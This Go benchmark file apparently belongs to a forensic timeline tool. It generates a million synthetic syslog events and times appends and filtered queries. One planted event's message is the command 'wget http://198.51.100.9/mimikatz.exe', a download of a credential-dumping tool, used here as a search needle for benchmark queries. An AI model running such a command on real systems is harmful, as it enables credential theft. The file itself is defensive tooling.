package events

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"firebreak/timeline"
)

const million = 1_000_000

// simpleEvents are like the lines of syslog files: sorted within an exhibit of
// 250,000 events, four exhibits that overlap in time.
func simpleEvents(n int) []timeline.Event {
	r := rand.New(rand.NewPCG(1, 2))
	events := make([]timeline.Event, n)
	for i := range events {
		exhibit := i / 250_000
		user, message := "", fmt.Sprintf("pam_unix(cron:session): session opened for user www-data(uid=33) by (uid=%d)", r.IntN(1000))
		switch r.IntN(4) {
		case 0:
			user = []string{"root", "admin", "alice", "bob"}[r.IntN(4)]
			message = fmt.Sprintf("Failed password for %s from 203.0.%d.%d port %d ssh2", user, r.IntN(256), r.IntN(256), r.IntN(65536))
		case 1:
			message = fmt.Sprintf("kernel: [%d.%06d] nf_conntrack: table full, dropping packet from 198.51.100.%d", i, r.IntN(1e6), r.IntN(256))
		}
		events[i] = timeline.Event{
			ID:   timeline.EventID(fmt.Sprint("exhibit", exhibit), "syslog", int64(i%250_000)*130, 0),
			Time: day.Add(time.Duration(i%250_000) * 311 * time.Millisecond), Precision: timeline.Second, TimeKind: timeline.Logged,
			Source: "syslog", Parser: "syslog", Host: fmt.Sprint("web-", exhibit), User: user, Message: message,
			Attributes: timeline.AttributesOf(map[string]string{"program": "sshd", "pid": fmt.Sprint(r.IntN(32768))}),
			Exhibit:    fmt.Sprint("e", exhibit), Offset: int64(i%250_000) * 130,
		}
	}
	if n > 700_000 {
		events[700_000].Message = "wget http://198.51.100.9/mimikatz.exe"
	}
	return events
}

func fill(b *testing.B, db *DB, events []timeline.Event) {
	b.Helper()
	for len(events) > 0 {
		n := min(20_000, len(events))
		if _, err := db.Append(b.Context(), events[:n]); err != nil {
			b.Fatal(err)
		}
		events = events[n:]
	}
}

func BenchmarkAppend(b *testing.B) {
	events := simpleEvents(million)
	for b.Loop() {
		db := openTest(b)
		fill(b, db, events)
	}
	b.ReportMetric(float64(b.N)*million/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkAppendAgain(b *testing.B) {
	events := simpleEvents(million)
	db := openTest(b)
	fill(b, db, events)
	for b.Loop() {
		fill(b, db, events)
	}
	b.ReportMetric(float64(b.N)*million/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkQueries(b *testing.B) {
	db := openTest(b)
	fill(b, db, simpleEvents(million))
	for _, text := range []string{
		"", "host:web-1", "-source:cron host:web-1,web-2", "mimikatz", "nothinglikethis", "failed", "-failed", `"failed password" user:root after:2026-11-20T10:00 before:2026-11-20T12:00`,
		"ip:203.0.113.0/24", "attr.pid:4711", "/mimi.atz/", "id:" + timeline.EventID("exhibit2", "syslog", 130*1000, 0).String(),
	} {
		f, err := timeline.ParseFilter(text, day)
		if err != nil {
			b.Fatal(err)
		}
		run := func(name string, do func() error) {
			b.Run(name+"/"+text, func(b *testing.B) {
				for b.Loop() {
					if err := do(); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
		n := 0
		run("page", func() error {
			n = (n + 7919) % 250_000
			_, err := db.Page(b.Context(), f, Request{At: day.Add(time.Duration(n) * 311 * time.Millisecond), Limit: 200})
			return err
		})
		run("count", func() error { _, err := db.Count(b.Context(), f); return err })
		run("histogram", func() error {
			_, err := db.Histogram(b.Context(), f, day, day.AddDate(0, 0, 1), 80)
			return err
		})
		run("top", func() error {
			_, err := db.Values(b.Context(), f, timeline.FieldUser, "", ValuesOptions{Limit: 10})
			return err
		})
	}
}
